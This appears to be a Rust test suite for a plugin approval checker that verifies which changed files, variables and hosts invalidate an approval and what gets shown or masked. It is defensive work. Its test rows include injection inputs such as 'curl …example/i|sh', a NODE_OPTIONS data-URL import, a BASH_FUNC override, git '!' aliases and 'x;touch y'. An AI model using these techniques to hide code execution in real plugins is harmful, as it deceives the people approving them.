//! What an approval covers, and what it shows: each row is a way by which something else ran than
//! what was approved, or what ran could not be read.

use std::os::unix::fs::symlink;
use std::time::Instant;

use super::*;

/// Threat E5: no file of the plugin is left out because another file names it.
#[test]
fn e05_files_that_declare_servers_or_set_variables_count_like_any_other() {
    let rows: &[(&str, &str, &str, &str)] = &[
        ("impl.js", "impl.js", "A=1 //", "A=1;evil() //"),
        ("lib", "lib/real.js", "1", "2"),
        (".env", ".env/real.js", "1", "2"),
        (".env", ".mcp.json", "{\"note\": 1}", "{\"note\": 2}"),
        (".env", ".claude-plugin/plugin.json", "{}", "{ }"),
        (".env", ".env", "A=1\nrun()", "A=1\nevil()"),
        (".env", ".env", "A=1 # note", "A=1 # other"),
        (".env", ".env", "NODE_OPTIONS=a", "NODE_OPTIONS=b"),
        ("sub/../.env.js", ".env.js", "A=x(1)", "A=x(2)"),
        ("other.env", ".env", "A=1", "A=2"),
        (".env", "sub/.env", "A=1", "A=2"),
    ];
    for (named, file, before, after) in rows {
        let place = Place::new();
        let fields = format!(r#""command": "node", "args": ["server.js"], "envFile": "{named}""#);
        place.file(file, before);
        place.approve(&fields);
        place.file(file, after);
        assert!(!place.is_approved(&fields), "{named}: {file}");
        assert_eq!(place.changes(&fields), [format!("~ {file} (changed)")]);
    }
}

#[test]
fn e05_a_token_in_the_entrys_own_env_file_rotates_without_a_question() {
    let place = Place::new();
    let fields = r#""command": "node", "args": ["server.js"], "envFile": ".env.local""#;
    place.file(".env.local", "# a note\nA=first\n");
    place.approve(fields);
    let question = place.ask(fields);
    place.file(".env.local", "# a note\nA='second'\nB=\"third==\"\n");
    assert!(place.is_approved(fields), "{:?}", place.changes(fields));
    assert_eq!(question.files.verify(), Ok(()), "nor is a start refused");
    // A link to it is another file.
    symlink(".env.local", place.at("impl.js")).unwrap();
    place.approve(fields);
    place.file(".env.local", "# a note\nA=third\n");
    assert!(!place.is_approved(fields));
    // A link in its place is what it leads to.
    let outside = place.folder.path().join("outside");
    std::fs::write(&outside, "A=1").unwrap();
    std::fs::remove_file(place.at("impl.js")).unwrap();
    std::fs::remove_file(place.at(".env.local")).unwrap();
    symlink(&outside, place.at(".env.local")).unwrap();
    place.approve(fields);
    std::fs::write(&outside, "A=2").unwrap();
    assert!(!place.is_approved(fields));
}

/// Threat E5: whatever the program, the plugin's files may be what it runs.
#[test]
fn e05_the_plugins_files_count_for_every_program_and_helper() {
    for fields in [
        r#""command": "docker", "args": ["run", "-i", "image"]"#,
        r#""command": "git", "args": ["--version"]"#,
        r#""command": "env", "args": ["-S node ./srv.js"]"#,
        r#""command": "find", "args": ["srv.txt", "-exec", "node", "-r", "./{}", ";"]"#,
        r#""command": "xargs", "args": ["-a", "/dev/null", "node"]"#,
        r#""command": "script", "args": ["-qc", "node ./srv.js", "/dev/null"]"#,
        r#""command": "prlimit", "args": ["node", "-e", "require('./srv')"]"#,
        r#""command": "taskset", "args": ["1", "node", "srv"]"#,
        r#""command": "/lib64/ld-linux-x86-64.so.2", "args": ["/usr/bin/node", "srv"]"#,
        r#""command": "gdb", "args": ["-batch", "-ex", "source srv.gdb"]"#,
        r#""command": "git", "args": ["-c", "alias.x=!node ./srv.js", "x"]"#,
        r#""command": "node", "cwd": "/",
           "args": ["-e", "require(process.env.HOST_PLUGIN_ROOT+'/srv.js')"]"#,
        r#""type": "http", "url": "https://h.example", "headersHelper": "node<srv.js""#,
        r#""type": "http", "url": "https://h.example", "headersHelper": "cat s*.js|\\sh""#,
        r#""type": "http", "url": "https://h.example", "headersHelper": ". s*.js""#,
        // A package, but one that is led into the plugin.
        r#""command": "npx", "args": ["-y", "tsx", "${HOST_PLUGIN_ROOT}"]"#,
        r#""command": "npx", "args": ["-y", "tsx", "-e", "x"]"#,
        r#""command": "npx", "args": ["-y", "tool", "--run:${HOST_PLUGIN_ROOT}/srv.js"]"#,
        r#""command": "npx", "args": ["-y", "tool", "../plugin/srv.js"]"#,
        r#""command": "npx", "args": ["-y", "tool"], "env": {"X": "${HOST_PLUGIN_ROOT}/srv.js"}"#,
        r#""command": "npx", "args": ["-y", "tool"], "cwd": ".""#,
        r#""command": "npx", "args": ["-y", "tool"], "cwd": "sub""#,
    ] {
        let place = Place::new();
        place.file("srv.js", "1");
        place.approve(fields);
        place.file("imported.js", "1");
        assert!(!place.is_approved(fields), "{fields}");
    }
}

/// A link that is another thing for the program than for us is not covered, which is said.
#[test]
fn e05_links_that_differ_by_process_or_lead_nowhere_are_named() {
    let fields = r#""command": "node", "args": ["server.js"]"#;
    for written in [
        "/proc/self/cwd/../code/x.js",
        "/proc/self/fd/7",
        "/dev/fd/7",
        "/dev/zero",
        "/nowhere/x.js",
        ".git/x.js",
    ] {
        let place = Place::new();
        place.file(".git/HEAD", "x");
        symlink(written, place.at("x.js")).unwrap();
        let question = place.ask(fields);
        assert!(question.files.is_partial());
        let text = question.to_string();
        assert!(text.contains("!! not covered: `x.js`, which"), "{text}");
    }
    let place = Place::new();
    for (name, written) in [("a", "b"), ("c", "/etc/passwd"), ("d", "/dev/null")] {
        symlink(written, place.at(name)).unwrap();
    }
    assert!(!place.ask(fields).files.is_partial());
    place.approve(fields);
    place.file("b", "1");
    assert!(!place.is_approved(fields), "a link leads there now");
}

#[test]
fn e05_only_the_repository_at_the_top_is_left_out_which_is_said() {
    let fields = r#""command": "node", "args": ["server.js"]"#;
    for (head, file, is_left_out) in [
        (".git/HEAD", ".git/x.js", true),
        (".git/config", ".git/x.js", false),
        (".git/HEAD", "lib/.git/x.js", false),
        ("lib/.git/HEAD", "lib/.git/x.js", false),
    ] {
        let place = Place::new();
        place.file("server.js", "1");
        place.file(head, "x");
        place.file(file, "1");
        place.approve(fields);
        place.file(file, "2");
        assert_eq!(place.is_approved(fields), is_left_out, "{head}, {file}");
        let is_said = place
            .ask(fields)
            .to_string()
            .contains("; `.git` is left out\n");
        assert_eq!(is_said, head == ".git/HEAD");
    }
}

#[test]
fn e05_pipes_and_sockets_count_by_name_and_kind() {
    let place = Place::new();
    let fields = r#""command": "node", "args": ["server.js"]"#;
    place.approve(fields);
    let pipe = place.at("code.js");
    rustix::fs::mknodat(
        rustix::fs::CWD,
        &pipe,
        rustix::fs::FileType::Fifo,
        0o600.into(),
        0,
    )
    .unwrap();
    assert!(!place.is_approved(fields), "a pipe");
    place.approve(fields);
    std::fs::remove_file(&pipe).unwrap();
    let _socket = std::os::unix::net::UnixListener::bind(&pipe).unwrap();
    assert!(!place.is_approved(fields), "a socket");
    assert!(
        !place.ask(fields).files.is_partial(),
        "nothing runs from it"
    );
}

/// Threat E6: values of the plugin's own file count wherever a program gets them, a credential's
/// place excepted, unless that is evaluated.
#[test]
fn e06_values_of_the_plugins_own_file_count_in_arguments_and_variables() {
    for (fields, counts) in [
        (r#""command": "prog", "args": ["${V}"]"#, true),
        (r#""command": "prog", "args": ["--token", "${V}"]"#, false),
        (r#""command": "prog", "args": ["--token=${V}"]"#, false),
        (
            r#""command": "sh", "args": ["-c", "eval $1", "--token", "${V}"]"#,
            true,
        ),
        (r#""command": "prog", "env": {"MODE": "${V}"}"#, true),
        (r#""command": "prog", "env": {"API_TOKEN": "${V}"}"#, false),
        (
            r#""command": "sh", "args": ["-c", "$API_TOKEN"], "env": {"API_TOKEN": "${V}"}"#,
            true,
        ),
        (r#""command": "tar", "env": {"TAR_OPTIONS": "${V}"}"#, true),
        (
            r#""command": "git", "env": {"GIT_CONFIG_KEY_0": "${V}"}"#,
            true,
        ),
    ] {
        let mut place = Place::new();
        place.plugin("V", "first");
        place.approve(fields);
        place.plugin("V", "second");
        assert_eq!(place.is_approved(fields), !counts, "{fields}");
    }
}

/// Threat E7: nothing that could run is masked as a credential.
#[test]
fn e07_what_could_run_is_shown_whole() {
    let mut place = Place::new();
    let token = ["ghp_a1B2c3D4e5F6g7H8", "i9J0k1L2m3N4o5P6q7R8"].concat();
    let options = format!("--import=data:text/javascript,evil();/*{token}*/");
    let rows = [
        (
            r#""command": "git", "args": ["-c", "alias.token=!node$IFS/outside/x.js", "token"]"#.to_owned(),
            "alias.token=!node$IFS/outside/x.js",
        ),
        (
            format!(r#""command": "node", "env": {{"NODE_OPTIONS": "{options}"}}"#),
            options.as_str(),
        ),
        (
            r#""command": "bash", "args": ["-c", "token"],
               "env": {"BASH_FUNC_token%%": "() { exec node /outside/x.js; }"}"#.to_owned(),
            "() { exec node /outside/x.js; }",
        ),
        (
            r#""command": "git", "env": {"GIT_CONFIG_KEY_0": "alias.x", "GIT_CONFIG_VALUE_0": "!x y"}"#.to_owned(),
            "GIT_CONFIG_KEY_0=alias.x",
        ),
        (
            r#""command": "sh", "args": ["-c", "$X_TOKEN"], "env": {"X_TOKEN": "node /outside/x.js"}"#.to_owned(),
            "X_TOKEN='node /outside/x.js'",
        ),
        (
            r#""command": "sh", "args": ["-c", "$X_TOKEN"], "env": {"X_TOKEN": "/outside/x86-64-linux/x.js"}"#.to_owned(),
            "X_TOKEN=/outside/x86-64-linux/x.js",
        ),
        (
            r#""command": "sh", "args": ["-c", "eval \"$1\"", "--token", "touch"]"#.to_owned(),
            "--token touch",
        ),
        (
            r#""command": "prog", "env": {"API_TOKEN": "x;touch y"}"#.to_owned(),
            "API_TOKEN='x;touch y'",
        ),
    ];
    for (fields, shown) in &rows {
        let text = place.ask(fields).to_string();
        assert!(text.contains(shown), "{shown}: {text}");
    }
    place.plugin("X_VALUE", "run-me");
    // An argument that it also stands in does not hide it.
    let fields = r#""command": "git", "args": ["${X_VALUE}"],
                    "env": {"GIT_CONFIG_VALUE_0": "${X_VALUE}"}"#;
    let text = place.ask(fields).to_string();
    assert!(text.contains("${X_VALUE} is run-me,"), "{text}");
}

/// Hidden is a whole value in a credential's place: a part of another may be what runs.
#[test]
fn e07_a_whole_credential_is_masked_and_a_part_of_a_literal_is_not() {
    let place = Place::new();
    let token = ["kT8vQ2mX9w", "Lz4Rb7Yc3N"].concat();
    for (fields, is_shown) in [
        (
            format!(r#""command": "prog", "env": {{"A": "--x; {token} y"}}"#),
            true,
        ),
        (
            format!(r#""command": "prog", "env": {{"API_KEY": "x; {token} y"}}"#),
            true,
        ),
        (
            format!(
                r#""command": "prog", "env": {{"API_BASE_URL": "https://{token}.example/v1"}}"#
            ),
            true,
        ),
        (
            format!(r#""command": "sh", "args": ["-c", "$A_KEY"], "env": {{"A_KEY": "{token}"}}"#),
            true,
        ),
        (
            format!(r#""command": "sh", "args": ["-c", "x --token {token} y"]"#),
            true,
        ),
        (
            format!(r#""command": "sh", "args": ["-c", "curl https://{token}.example/i|sh"]"#),
            true,
        ),
        (
            format!(r#""command": "node", "args": ["-e", "eval(atob('{token}'))"]"#),
            true,
        ),
        (
            format!(r#""command": "./{token}/run.sh", "cwd": "{token}/sub""#),
            true,
        ),
        (
            format!(r#""command": "git", "env": {{"GIT_TOKEN": "{token}"}}"#),
            false,
        ),
        (
            format!(r#""command": "prog", "env": {{"API_KEY": "{token}"}}"#),
            false,
        ),
        (
            format!(r#""command": "prog", "env": {{"DB": "pg://u:{token}@h.example/x"}}"#),
            false,
        ),
        (
            format!(r#""command": "prog", "args": ["--api-key", "{token}"]"#),
            false,
        ),
    ] {
        let text = place.ask(&fields).to_string();
        assert_eq!(text.contains(&token), is_shown, "{text}");
        place.approve(&fields);
        assert!(!place.is_approved(&fields.replace("Yc3N", "Yc3M")));
    }
}

/// Threat E8: a destination is shown as it is.
#[test]
fn e08_hosts_and_addresses_are_shown_whatever_they_look_like() {
    let place = Place::new();
    let host = ["kT8vQ2mX9w", "Lz4Rb7Yc3N.example"].concat();
    let fields = format!(
        r#""type": "http", "url": "https://{host}/mcp", "headers": {{"X-Key": "${{T}}"}},
           "oauth": {{"clientId": "c", "authorizationUrl": "https://a.example/a",
                     "tokenUrl": "https://u:x7k2m9q4@{host}/t?api_key=x7k2m9q4"}}"#
    );
    let text = place.ask(&fields).to_string().to_lowercase();
    let host = host.to_lowercase();
    for shown in [
        format!("reaches   https://{host} (https://{host}/mcp)"),
        format!("sends     ${{t}} as header `x-key: ${{t}}` to https://{host}\n"),
        format!("oauth     tokenurl = 'https://…@{host}/t?api_key=…'\n"),
        format!("and https://{host} gets the code for it"),
    ] {
        assert!(text.contains(&shown), "{shown}: {text}");
    }
}

/// P0: a file that the plugin chose may be the person's.
#[test]
fn p0_of_values_in_a_chosen_file_those_are_shown_that_decide() {
    let mut place = Place::new();
    for (name, value) in [
        ("DB_PASSWORD", "summerholiday"),
        ("PIN", "4711"),
        ("API_TOKEN", "correct-horse-battery"),
        ("DATABASE_URL", "pg://me:hunter2@h.example"),
    ] {
        place.plugin(name, value);
    }
    let fields = r#""command": "prog", "args": ["${DB_PASSWORD}", "${DATABASE_URL}"],
        "env": {"A": "${DB_PASSWORD}", "B": "${PIN}", "C": "${API_TOKEN}"}"#;
    let asked = place.ask(fields);
    let text = format!("{asked}{}", asked.to_json());
    for secret in ["summer", "4711", "horse", "hunter2"] {
        assert!(!text.contains(secret), "{text}");
    }
    for name in ["DB_PASSWORD", "PIN", "API_TOKEN"] {
        let line = format!("${{{name}}}, which is not shown, from a file");
        assert!(text.contains(&line), "{line}: {text}");
    }
    assert!(
        text.contains("${DATABASE_URL} is 'pg://…@h.example',"),
        "{text}"
    );
    // They count all the same.
    place.approve(fields);
    place.plugin("PIN", "4712");
    assert!(!place.is_approved(fields));
    let fields = r#""command": "${DB_PASSWORD}""#;
    let text = place.ask(fields).to_string();
    assert!(
        !text.contains("summer") && text.contains("look at it"),
        "{text}"
    );
}

#[test]
fn p0_a_value_of_a_chosen_file_is_shown_only_where_it_decides() {
    let mut place = Place::new();
    place.plugin("V", "the-value");
    let remote = r#""type": "http", "url": "https://h.example/""#;
    for (fields, is_shown) in [
        (
            r#""command": "prog", "env": {"MODE": "${V}"}"#.to_owned(),
            false,
        ),
        (
            r#""command": "prog", "env": {"NODE_OPTIONS": "${V}"}"#.to_owned(),
            true,
        ),
        (
            r#""command": "prog", "env": {"HTTPS_PROXY": "${V}"}"#.to_owned(),
            true,
        ),
        (
            r#""command": "prog", "env": {"PASSWORD_COMMAND": "${V}"}"#.to_owned(),
            true,
        ),
        (
            r#""command": "sh", "args": ["-c", "$MODE"], "env": {"MODE": "${V}"}"#.to_owned(),
            true,
        ),
        (
            format!(r#"{remote}, "oauth": {{"clientId": "${{V}}"}}"#),
            true,
        ),
        (
            format!(r#"{remote}, "oauth": {{"clientId": "c", "clientSecret": "${{V}}"}}"#),
            false,
        ),
    ] {
        let text = place.ask(&fields).to_string();
        assert_eq!(text.contains("the-value"), is_shown, "{text}");
    }
}

/// It is the plugin's own, so that nothing of the person's is in it.
#[test]
fn a_value_that_stands_for_one_the_person_did_not_give_counts_and_is_shown() {
    let mut place = Place::new();
    let fields = r#""command": "prog", "env": {"MODE": "${V}"}"#;
    place.defaults.insert("V".to_owned(), "fast".to_owned());
    let text = place.ask(fields).to_string();
    assert!(text.contains("${V} is fast,"), "{text}");
    place.approve(fields);
    place.defaults.insert("V".to_owned(), "slow".to_owned());
    assert!(!place.is_approved(fields));
}

#[test]
fn p0_a_credential_of_the_persons_is_not_shown_in_a_path() {
    let mut place = Place::new();
    place.person("DB_PASSWORD", "hunter-two");
    place.person("WHERE", "here");
    for (fields, is_shown) in [
        (r#""command": "prog", "cwd": "/x/${DB_PASSWORD}""#, false),
        (
            r#""command": "prog", "envFile": "/x/${DB_PASSWORD}""#,
            false,
        ),
        (r#""command": "prog", "cwd": "/x/${WHERE}""#, true),
    ] {
        let text = place.ask(fields).to_string();
        assert!(!text.contains("hunter"), "{text}");
        assert_eq!(text.contains("/x/here"), is_shown, "{text}");
        place.approve(fields);
        place.person("DB_PASSWORD", "hunter-three");
        assert_eq!(place.is_approved(fields), is_shown, "{fields}");
        place.person("DB_PASSWORD", "hunter-two");
    }
}

/// Threat E5: in another folder another file runs.
#[test]
fn e05_the_folder_that_one_works_in_counts_where_it_decides_what_runs() {
    for (fields, counts) in [
        (
            r#""command": "sh", "args": ["server.sh"], "cwd": "${HOST_PROJECT_DIR}""#,
            true,
        ),
        (
            r#""command": "sh", "args": ["${CLAUDE_PROJECT_DIR}/server.sh"]"#,
            true,
        ),
        (r#""command": "${HOST_PROJECT_DIR}/server.sh""#, true),
        (
            r#""command": "sh", "args": ["-c", ". $HOST_PROJECT_DIR/x"]"#,
            true,
        ),
        (
            r#""command": "prog", "env": {"NODE_OPTIONS": "--import=${HOST_PROJECT_DIR}/x"}"#,
            true,
        ),
        (
            r#""type": "http", "url": "https://h.example", "headersHelper": "${HOST_PROJECT_DIR}/h.sh""#,
            true,
        ),
        (
            r#""command": "prog", "env": {"A": "${HOST_PROJECT_DIR}"}"#,
            false,
        ),
        (r#""command": "prog""#, false),
    ] {
        let mut place = Place::new();
        let text = place.ask(fields).to_string();
        let said = "${HOST_PROJECT_DIR} is /project, the folder that you work in";
        assert_eq!(text.contains(said), counts, "{text}");
        place.approve(fields);
        place.project = "/elsewhere".into();
        assert_eq!(place.is_approved(fields), !counts, "{fields}");
        place.approve(fields);
        place.project = "/project".into();
        assert!(
            place.is_approved(fields),
            "they stand side by side: {fields}"
        );
    }
}

#[test]
fn variables_that_lead_requests_elsewhere_are_marked() {
    let place = Place::new();
    for (name, is_marked) in [
        ("HTTPS_PROXY", true),
        ("http_proxy", true),
        ("SSLKEYLOGFILE", true),
        ("AWS_CONFIG_FILE", true),
        ("NODE_COMPILE_CACHE", true),
        ("XDG_CACHE_HOME", true),
        ("MODE", false),
    ] {
        let fields = format!(r#""command": "prog", "env": {{"{name}": "x"}}"#);
        let text = place.ask(&fields).to_string();
        assert_eq!(text.contains("!! decides w"), is_marked, "{text}");
    }
}

#[test]
fn what_lies_outside_of_the_plugin_is_said_to_change_without_a_question() {
    let mut place = Place::new();
    let code = place.folder.path().canonicalize().unwrap().join("code");
    std::fs::create_dir(&code).unwrap();
    for file in ["server.js", "tool"] {
        std::fs::write(code.join(file), "1").unwrap();
        let mode = std::os::unix::fs::PermissionsExt::from_mode(0o666);
        std::fs::set_permissions(code.join(file), mode).unwrap();
    }
    let mode = std::os::unix::fs::PermissionsExt::from_mode(0o777);
    std::fs::set_permissions(&code, mode).unwrap();
    for fields in [
        r#""command": "node", "args": ["../code/server.js"]"#,
        r#""command": "node", "args": ["../code"]"#,
        r#""command": "node", "args": ["--import=../code/server.js", "."]"#,
        r#""command": "../code/tool""#,
        r#""command": "node", "args": ["/proc/self/cwd/x.js"]"#,
        r#""command": "npx", "args": ["tsx", "../code/server.js"]"#,
        r#""command": "npx", "args": ["-y", "tsx", "../code"]"#,
        r#""command": "node", "args": ["--import", "./%2e%2e/code/server.js"]"#,
        r#""command": "node", "args": ["--import", "..\\code\\server.js"]"#,
        r#""type": "http", "url": "https://h.example", "headersHelper": "../code/tool x""#,
    ] {
        let text = place.ask(fields).to_string();
        let said = "outside of the plugin: it can change without a question";
        assert!(text.contains(said), "{text}");
    }
    let text = place
        .ask(r#""command": "node", "cwd": "../code""#)
        .to_string();
    assert!(text.contains("can change without a question"), "{text}");
    // The system's, and the person's.
    place.person("MINE", "../code/server.js");
    for fields in [
        r#""command": "/bin/sh", "args": ["server.sh"]"#,
        r#""command": "node", "args": ["server.js", "${MINE}"]"#,
    ] {
        let text = place.ask(fields).to_string();
        assert!(!text.contains("without a question"), "{text}");
    }
}

/// A plugin may write as many words as its file has room for.
#[test]
fn a_line_of_100_000_words_is_looked_at_in_one_pass() {
    let words = vec![r#""node""#; 100_000].join(",");
    let begun = Instant::now();
    let fields = format!(r#""command": "npx", "args": ["-y", "tool", {words}, "-e", "x"]"#);
    let text = Place::new().ask(&fields).to_string();
    assert!(text.contains("what follows `node -e` is a program itself"));
    assert!(begun.elapsed() < Duration::from_secs(60));
}

/// Threat E7: what runs cannot be hidden by giving it the place or the shape of a credential.
#[test]
fn e07_a_program_in_the_place_of_a_credential_is_shown() {
    let token = ["kT8vQ2mX9w", "Lz4Rb7Yc3N"].concat();
    let place = Place::new();
    place.file(&token, "");
    place.file(&format!("lib{token}.js"), "");
    for fields in [
        format!(r#""command": "python3", "args": ["-Xapi-token", "{token}"]"#),
        format!(r#""command": "prog", "args": ["--token", "{token}"]"#),
        format!(r#""command": "prog", "args": ["--token=lib{token}"]"#),
        format!(r#""command": "uvx", "args": ["--token", "x{token}"]"#),
        format!(r#""command": "python3", "args": ["--token", "x{token}"]"#),
        format!(r#""command": "timeout", "args": ["--token", "x{token}"]"#),
        format!(r#""command": "uv", "args": ["run", "--token", "x{token}"]"#),
        format!(r#""command": "npx", "args": ["-y", "--always-auth", "x{token}"]"#),
        format!(r#""command": "prog", "env": {{"RESTIC_PASSWORD_COMMAND": "x{token}"}}"#),
        format!(r#""command": "prog", "env": {{"API_TOKEN": "{token}"}}"#),
        r#""command": "prog", "env": {"API_TOKEN": "evil.py"}"#.to_owned(),
    ] {
        let text = place.ask(&fields).to_string();
        let shown = if fields.contains("evil") {
            "evil"
        } else {
            &token
        };
        assert!(text.contains(shown), "{fields}: {text}");
    }
    for fields in [
        format!(r#""command": "npx", "args": ["-y", "server", "--token", "x{token}"]"#),
        format!(r#""command": "prog", "args": ["--token=x{token}"]"#),
        format!(r#""command": "prog", "env": {{"API_TOKEN": "x{token}"}}"#),
    ] {
        let text = place.ask(&fields).to_string();
        assert!(!text.contains(&token), "{fields}: {text}");
    }
}

/// Threat E6: behind a flag that is named like a credential a program of the plugin's choice counts.
#[test]
fn e06_a_program_in_the_place_of_a_credential_counts_by_value() {
    for fields in [
        r#""command": "uvx", "args": ["--token", "${V}"]"#,
        r#""command": "restic", "args": ["--password-command", "${V}"]"#,
        r#""command": "restic", "args": ["--password-command=${V}"]"#,
        r#""command": "restic", "env": {"RESTIC_PASSWORD_COMMAND": "${V}"}"#,
    ] {
        let mut place = Place::new();
        place.plugin("V", "first");
        place.approve(fields);
        place.plugin("V", "second");
        assert!(!place.is_approved(fields), "{fields}");
    }
}

/// Threat E5: a plain value in a script is a part of a program.
#[test]
fn e05_values_of_a_script_that_is_named_as_env_file_count() {
    for (name, text, is_script) in [
        (".env.sh", "TOOL=safe\n", true),
        (".env", "#!/bin/sh\nTOOL=safe\n", true),
        (".env", "TOOL=safe\n", false),
    ] {
        let place = Place::new();
        let fields = format!(r#""command": "./server.sh", "envFile": "{name}""#);
        place.file("server.sh", "#!/bin/sh\n. ./.env.sh\n");
        place.file(name, text);
        place.approve(&fields);
        place.file(name, &text.replace("safe", "EVIL"));
        assert_eq!(place.is_approved(&fields), !is_script, "{name}: {text}");
    }
}

/// Threat E5: programs of the plugin write the data folder, confined ones as well.
#[test]
fn e05_an_env_file_or_a_program_in_the_data_folder_is_marked() {
    let place = Place::new();
    let data = place.folder.path().join("data");
    std::fs::create_dir(&data).unwrap();
    std::fs::write(data.join("e.env"), "").unwrap();
    for folder in ["${HOST_PLUGIN_DATA}", "${CLAUDE_PLUGIN_DATA}"] {
        let fields = format!(r#""command": "prog", "envFile": "{folder}/e.env""#);
        let text = place.ask(&fields).to_string();
        assert!(
            text.contains(&format!("env file  {folder}/e.env")),
            "{text}"
        );
        assert!(text.contains("programs of the plugin can write"), "{text}");
    }
    std::fs::write(data.join("run"), "").unwrap();
    for fields in [
        r#""command": "prog", "cwd": "${HOST_PLUGIN_DATA}""#,
        r#""command": "${HOST_PLUGIN_DATA}/run""#,
    ] {
        let text = place.ask(fields).to_string();
        assert!(text.contains("programs of the plugin can write"), "{text}");
        assert!(!text.contains("the plugin's own program"), "{text}");
    }
}
